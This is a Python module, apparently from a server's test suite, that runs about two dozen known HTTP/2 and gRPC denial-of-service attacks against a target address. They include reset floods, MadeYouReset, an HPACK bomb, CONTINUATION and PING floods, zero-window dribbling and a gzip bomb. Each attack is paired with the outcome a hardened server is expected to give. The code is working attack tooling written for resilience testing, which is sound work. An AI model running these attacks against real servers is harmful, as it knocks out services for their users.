"""Known denial-of-service attacks on HTTP/2 servers, and a connection that runs them."""

import gzip
import select
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from typing import NamedTuple

from support import frames
from support.frames import Error, Frame, Kind, Setting, literals, parse
from support.victim import infer_request
from support.wire import framed, request_headers

LIVE = "/inference.GRPCInferenceService/ServerLive"
INFER = "/inference.GRPCInferenceService/ModelInfer"
CALM = "ENHANCE_YOUR_CALM"
OPEN = "open"
CLOSED = "closed"

_PATIENCE_SECONDS = 20
_QUIET_SECONDS = 2.0
"""Seconds of silence after which the server is taken to be done; long, for busy machines."""
_MIB = 1 << 20
_BLOCK = literals(request_headers(LIVE))
_INFER_BLOCK = literals(request_headers(INFER))
_MESSAGE = framed(infer_request("wide", 1))


class Attacker:
    """One connection, which keeps reading while it sends unless told not to."""

    def __init__(self, url: str, *values: tuple[int, int], greets: bool = True) -> None:
        host, _, port = url.rpartition(":")
        self._socket = socket.create_connection((host, int(port)), _PATIENCE_SECONDS)
        self._socket.setblocking(False)
        self._rest = b""
        self.came: list[Frame] = []
        """Frames received, without the bodies of DATA."""
        self.ended = False
        if greets:
            self.send(frames.PREFACE, frames.settings(*values), frames.SETTINGS_ACK)

    def close(self) -> None:
        self._socket.close()

    def finish(self) -> None:
        """Close the sending side; responses are still read."""
        with suppress(OSError):
            self._socket.shutdown(socket.SHUT_WR)

    def send(self, *parts: Frame | bytes, reads: bool = True) -> None:
        """Send as much as the server accepts, until GOAWAY or the connection's end."""
        unsent = memoryview(b"".join(map(bytes, parts)))
        end = time.monotonic() + _PATIENCE_SECONDS
        while unsent and not self.ended and self.goaway is None and time.monotonic() < end:
            readable, writable = self._ready(reads=reads, writes=True, seconds=_QUIET_SECONDS)
            if readable:
                self._receive()
            if writable and not self.ended:
                try:
                    unsent = unsent[self._socket.send(unsent[:65536]) :]
                except ConnectionError:
                    self.ended = True
            elif not readable and not reads:
                return  # neither side reads: the buffers are full

    def read(self, until: Callable[[], bool]) -> None:
        """Read until a condition holds or the connection ends."""
        end = time.monotonic() + _PATIENCE_SECONDS
        while not self.ended and not until() and time.monotonic() < end:
            if self._ready(reads=True, seconds=1)[0]:
                self._receive()

    def look(self) -> bool:
        """Read without blocking; return whether there was anything."""
        before = len(self.came), self.ended
        while not self.ended and self._ready(reads=True)[0]:
            self._receive()
        return before != (len(self.came), self.ended)

    def _ready(self, *, reads: bool, writes: bool = False, seconds: float = 0) -> tuple[bool, bool]:
        # select() cannot handle descriptors above 1023.
        poll = select.poll()
        poll.register(self._socket, select.POLLIN * reads | select.POLLOUT * writes)
        events = dict(poll.poll(seconds * 1000)).get(self._socket.fileno(), 0)
        gone = events & (select.POLLERR | select.POLLHUP)
        return bool(events & select.POLLIN or gone), bool(events & select.POLLOUT)

    def _receive(self) -> None:
        try:
            received = self._socket.recv(1 << 18)
        except BlockingIOError:
            return
        except ConnectionError:
            received = b""
        self.ended = self.ended or not received
        came, self._rest = parse(self._rest + received)
        self.came += [f._replace(payload=b"") if f.kind == Kind.DATA else f for f in came]

    @property
    def goaway(self) -> str | None:
        """The error code of the server's GOAWAY, or None."""
        for frame in self.came:
            if frame.kind == Kind.GOAWAY:
                return Error(int.from_bytes(frame.payload[4:8], "big")).name
        return None

    @property
    def outcome(self) -> str:
        """Return the error code of GOAWAY, `closed` without one, or `open`."""
        return self.goaway or (CLOSED if self.ended else OPEN)

    def statuses(self) -> set[str]:
        """Return the statuses of completed requests and the error codes of reset ones."""
        found = set()
        for frame in self.came:
            _, name, value = frame.payload.partition(b"grpc-status")
            if frame.kind == Kind.HEADERS and name:
                found.add(value[1 : 1 + value[0]].decode())
            elif frame.kind == Kind.RST_STREAM:
                found.add(Error(int.from_bytes(frame.payload, "big")).name)
        return found


def outcomes(*attackers: Attacker) -> set[str]:
    """Read until the server is silent; return the outcomes of the connections."""
    quiet_since = time.monotonic()
    while time.monotonic() - quiet_since < _QUIET_SECONDS:
        if all(attacker.ended for attacker in attackers):
            break
        if sum(attacker.look() for attacker in attackers):
            quiet_since = time.monotonic()
        time.sleep(0.01)
    return {attacker.outcome for attacker in attackers}


class Attack(NamedTuple):
    """An attack, and the acceptable outcomes of its connections."""

    run: Callable[[str], set[str]]
    """Runs it against an address; returns the outcomes of its connections."""
    outcomes: frozenset[str]


def one(*parts: Callable[[], bytes], reads: bool = True) -> Callable[[str], set[str]]:
    """Attack from one connection with bytes that are generated first."""

    def run(url: str) -> set[str]:
        with ExitStack() as stack:
            attacker = Attacker(url)
            stack.callback(attacker.close)
            for part in parts:
                attacker.send(part(), reads=reads)
            return outcomes(attacker)

    return run


def many(count: int, *parts: Callable[[], bytes], reads: bool = True) -> Callable[[str], set[str]]:
    """Attack from many connections, all kept open until the last one has sent."""

    def run(url: str) -> set[str]:
        octets = b"".join(part() for part in parts)
        with ExitStack() as stack:
            attackers = [Attacker(url) for _ in range(count)]
            for attacker in attackers:
                stack.callback(attacker.close)
            for attacker in attackers:
                attacker.send(octets, reads=reads)
            return outcomes(*attackers)

    return run


def _streams(count: int) -> Iterator[int]:
    return iter(range(1, 2 * count + 1, 2))


def _open(count: int, block: bytes = _BLOCK) -> bytes:
    return b"".join(bytes(frames.headers(stream, block)) for stream in _streams(count))


def _resets() -> bytes:
    return b"".join(
        bytes(frames.headers(stream, _BLOCK)) + bytes(frames.rst_stream(stream))
        for stream in _streams(10_000)
    )


def _made_resets() -> bytes:
    """CVE-2025-8671 (MadeYouReset): provoke the server to reset streams itself."""
    return b"".join(
        bytes(frames.headers(stream, _BLOCK, end_stream=True)) + bytes(frames.data(stream, b"x"))
        for stream in _streams(10_000)
    )


def _bomb() -> bytes:
    """HPACK bomb: a 4 KB header in the table, then its index twelve thousand times."""
    block = b"\x40\x01a" + frames.integer(4000, 7) + b"v" * 4000 + b"\xbe" * 12_000
    return bytes(frames.headers(1, _BLOCK + block))


def _pieces(size: int, count: int) -> bytes:
    piece = bytes(frames.continuation(1, b"\0" * size, end_headers=False))
    return bytes(frames.headers(1, b"", end_headers=False)) + piece * count


def _large_headers() -> bytes:
    block = literals([*request_headers(LIVE), *[(f"x-{at}", "v" * 1000) for at in range(58)]])
    return _open(99, block)


def _unread_body(size: int) -> bytes:
    """Announce a longer message than is sent."""
    prefix = b"\0" + (15 * _MIB).to_bytes(4, "big")
    body = [prefix, *[bytes(16_384)] * (size // 16_384)]
    return _open(1, _INFER_BLOCK) + b"".join(bytes(frames.data(1, part)) for part in body)


def _declared(declared: int, size: int) -> bytes:
    prefix = b"\0" + declared.to_bytes(4, "big")
    part = bytes(frames.data(1, bytes(16_384)))
    return _open(1, _INFER_BLOCK) + bytes(frames.data(1, prefix)) + part * (size // 16_384)


def ask_for_answers(count: int) -> bytes:
    """Send `count` requests to the model `wide` in one go."""
    return b"".join(
        bytes(frames.headers(stream, _INFER_BLOCK))
        + bytes(frames.data(stream, _MESSAGE, end_stream=True))
        for stream in _streams(count)
    )


def _window_of_nothing(url: str) -> set[str]:
    """Request two hundred megabytes with a window of zero."""
    with ExitStack() as stack:
        attacker = Attacker(url, (Setting.INITIAL_WINDOW_SIZE, 0))
        stack.callback(attacker.close)
        attacker.send(ask_for_answers(100))
        return outcomes(attacker)


def _dribble(url: str) -> set[str]:
    """CVE-2019-9511: read a response byte by byte."""
    with ExitStack() as stack:
        attacker = Attacker(url, (Setting.INITIAL_WINDOW_SIZE, 0))
        stack.callback(attacker.close)
        attacker.send(ask_for_answers(1))
        attacker.send(bytes(frames.window_update(1, 1)) * 20_000)
        return outcomes(attacker)


def _disconnects(url: str) -> set[str]:
    for _ in range(500):
        attacker = Attacker(url)
        attacker.send(_unread_body(16_384))
        attacker.close()
    return {CLOSED}


def _short_visits(url: str) -> set[str]:
    statuses = set()
    for _ in range(300):
        attacker = Attacker(url)
        attacker.send(_open(1), frames.data(1, framed(b""), end_stream=True))
        attacker.read(lambda attacker=attacker: bool(attacker.statuses()))  # type: ignore[misc]
        statuses |= attacker.statuses()
        attacker.close()
    return {f"grpc-status {status}" for status in statuses}


def _one_message(
    message: bytes, *lines: tuple[str, str], flag: int = 0
) -> Callable[[str], set[str]]:
    """Send a message and return the status of the response."""

    def run(url: str) -> set[str]:
        with ExitStack() as stack:
            attacker = Attacker(url)
            stack.callback(attacker.close)
            body = bytes((flag,)) + len(message).to_bytes(4, "big") + message
            attacker.send(frames.headers(1, literals(request_headers(INFER, *lines))))
            # Ignore the flow-control window: a server under attack must cope with that.
            for at in range(0, len(body), 16_384):
                part = body[at : at + 16_384]
                attacker.send(frames.data(1, part, end_stream=at + 16_384 >= len(body)))
                if attacker.statuses():
                    break
            attacker.read(lambda: bool(attacker.statuses()))
            return {f"grpc-status {status}" for status in attacker.statuses() if status.isdigit()}

    return run


def _times(frame: Frame, count: int) -> Callable[[], bytes]:
    return lambda: bytes(frame) * count


def _ends(*outcomes: str) -> frozenset[str]:
    return frozenset(outcomes)


ATTACKS = {
    "requests that are cancelled at once": Attack(one(_resets), _ends(CALM)),
    "requests that the server has to reset": Attack(one(_made_resets), _ends(CALM)),
    "PING": Attack(one(_times(frames.ping(), 100_000)), _ends(CALM)),
    "PING, the answers unread": Attack(
        one(_times(frames.ping(), 200_000), reads=False), _ends(CALM, CLOSED)
    ),
    "SETTINGS": Attack(one(_times(frames.settings(), 200_000)), _ends(CALM)),
    "SETTINGS, the answers unread": Attack(
        one(_times(frames.settings(), 200_000), reads=False), _ends(CALM, CLOSED)
    ),
    "empty DATA": Attack(one(lambda: _open(1), _times(frames.data(1), 200_000)), _ends(CALM)),
    "PRIORITY": Attack(one(_times(frames.priority(1, 0), 200_000)), _ends(CALM)),
    "WINDOW_UPDATE with 90 streams open": Attack(
        one(lambda: _open(90), _times(frames.window_update(0, 1), 200_000)), _ends(CALM)
    ),
    "unknown frames": Attack(one(_times(Frame(0xFA, 0, 0, b"x"), 200_000)), _ends(CALM)),
    "empty CONTINUATION": Attack(one(lambda: _pieces(0, 100_000)), _ends(CALM)),
    "62 CONTINUATION of 16 KB, 50 times": Attack(
        many(50, lambda: _pieces(16_000, 62)), _ends(CALM)
    ),
    "a header list of 48 MB in 16 KB": Attack(one(_bomb), _ends(CALM)),
    "headers of 60 KB, 99 at once, 8 times": Attack(many(8, _large_headers), _ends(OPEN, CALM)),
    "a frame of 16 MB is announced, 30 times": Attack(
        many(30, lambda: _open(1) + frames.head(2**24 - 1, Kind.DATA, 0, 1) + bytes(_MIB)),
        _ends("FRAME_SIZE_ERROR"),
    ),
    "100 requests without a message, 50 times": Attack(many(50, lambda: _open(100)), _ends(OPEN)),
    "4 MB of a message, 20 times": Attack(many(20, lambda: _unread_body(4 * _MIB)), _ends(OPEN)),
    "a message of 4 GB is announced, and 16 MB come": Attack(
        one(lambda: _declared(2**32 - 1, 16 * _MIB)), _ends(OPEN, CALM)
    ),
    "answers of 2 MB, 100 times, and no window": Attack(_window_of_nothing, _ends(OPEN)),
    "answers of 2 MB, 20 times, of which none is read, 5 times": Attack(
        many(5, lambda: ask_for_answers(20), reads=False), _ends(OPEN)
    ),
    "an answer of 2 MB, byte by byte": Attack(_dribble, _ends(OPEN, CALM)),
    "500 clients that go within a message": Attack(_disconnects, _ends(CLOSED)),
    "300 clients that ask once": Attack(_short_visits, _ends("grpc-status 0")),
    "1 MB of unknown fields": Attack(
        _one_message(b"\xb8\x3e" * (_MIB // 3) + b"\0" * (_MIB // 3)),
        _ends("grpc-status 3", "grpc-status 8", "grpc-status 13"),
    ),
    "a message of 65 MB": Attack(_one_message(bytes(65 * _MIB)), _ends("grpc-status 8")),
    "1 GB in 1 MB of gzip": Attack(
        _one_message(gzip.compress(bytes(1 << 28), 9) * 4, ("grpc-encoding", "gzip"), flag=1),
        _ends("grpc-status 8"),
    ),
}
"""Attacks that measurably hurt grpclib and h2, each sized to take only a moment to send."""
